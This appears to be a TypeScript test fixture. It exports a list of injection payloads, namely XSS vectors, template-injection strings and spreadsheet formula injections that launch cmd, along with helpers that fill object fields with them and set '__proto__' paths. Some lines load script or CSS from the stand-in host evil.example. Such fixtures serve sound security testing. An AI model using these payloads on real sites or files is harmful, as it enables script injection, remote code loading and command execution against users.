const call = "alert(1)";

/** Injection attempts: markup, attributes, URLs, styles, templates, formulas. */
export const PAYLOADS: readonly string[] = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `</template><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img src=x:x onerror="${call}">`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<button formaction="javascript:${call}">go</button>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>`,
  `<a href="javascript:${call}">go</a>`,
  `<a href="data:text/html,<script>${call}</script>">go</a>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<div style="background:url(javascript:${call})">`,
  `" onmouseover="${call}`,
  `' onmouseover='${call}`,
  `" autofocus onfocus="${call}" x="`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  "`><img src=x onerror=" + call + ">",
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#x3C;script&#x3E;${call}&#x3C;/script&#x3E;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}`,
  `=HYPERLINK("https://evil.example","go")`,
  `+cmd|' /C calc'!A1`,
  `-2+3+cmd|' /C calc'!A1`,
  `@SUM(1+1)*cmd|' /C calc'!A1`,
];

/** `given` with this text wherever it holds one, and after it which field it is. */
export const filledWith = <T extends object>(text: string, given: T): T => ({
  ...given,
  ...Object.fromEntries(
    Object.entries(given).flatMap(([name, value]) =>
      typeof value === "string" ? [[name, `${text} ${name}`]] : [],
    ),
  ),
});

/** Sets a field as JSON would carry it, `__proto__` as a plain name; nothing where there is no such place. */
export const setAt = (target: unknown, place: readonly string[], value: unknown): void => {
  let inner: unknown = target;
  for (const name of place.slice(0, -1))
    inner = typeof inner === "object" && inner !== null ? Reflect.get(inner, name) : undefined;
  if (typeof inner === "object" && inner !== null)
    Object.defineProperty(inner, place.at(-1) ?? "", {
      value,
      enumerable: true,
      configurable: true,
      writable: true,
    });
};
